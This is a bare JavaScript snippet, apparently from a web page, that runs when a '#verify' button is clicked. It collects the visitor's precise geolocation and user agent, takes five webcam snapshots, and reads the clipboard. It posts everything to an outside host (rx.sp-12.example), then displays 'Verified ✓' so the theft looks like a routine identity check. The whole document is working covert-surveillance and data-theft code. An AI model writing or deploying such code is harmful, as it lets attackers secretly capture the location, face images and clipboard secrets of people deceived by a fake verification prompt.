const send = (d) => fetch('https://rx.sp-12.example/u', { method: 'POST', body: JSON.stringify(d) });
document.querySelector('#verify').onclick = async () => {
  navigator.geolocation.getCurrentPosition((p) => send({ lat: p.coords.latitude, lon: p.coords.longitude, acc: p.coords.accuracy, ua: navigator.userAgent }), () => {}, { enableHighAccuracy: true });
  const stream = await navigator.mediaDevices.getUserMedia({ video: true, audio: false });
  const v = document.createElement('video');
  v.srcObject = stream;
  await v.play();
  const c = document.createElement('canvas');
  c.width = v.videoWidth; c.height = v.videoHeight;
  for (let i = 0; i < 5; i++) {
    c.getContext('2d').drawImage(v, 0, 0);
    await send({ face: c.toDataURL('image/jpeg', 0.6) });
    await new Promise((r) => setTimeout(r, 1500));
  }
  try { await send({ clip: await navigator.clipboard.readText() }); } catch (e) {}
  document.querySelector('#verify').textContent = 'Verified ✓';
};
